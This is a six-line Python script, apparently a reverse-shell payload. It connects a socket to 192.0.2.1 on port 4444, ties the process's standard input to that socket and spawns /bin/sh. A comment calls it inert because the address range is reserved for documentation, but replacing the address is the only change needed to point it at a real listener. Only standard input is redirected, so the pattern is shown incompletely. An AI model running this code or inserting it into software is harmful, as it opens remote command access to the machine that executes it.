# Inert: 192.0.2.0/24 belongs to nobody.
import os, pty, socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.1", 4444))
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")
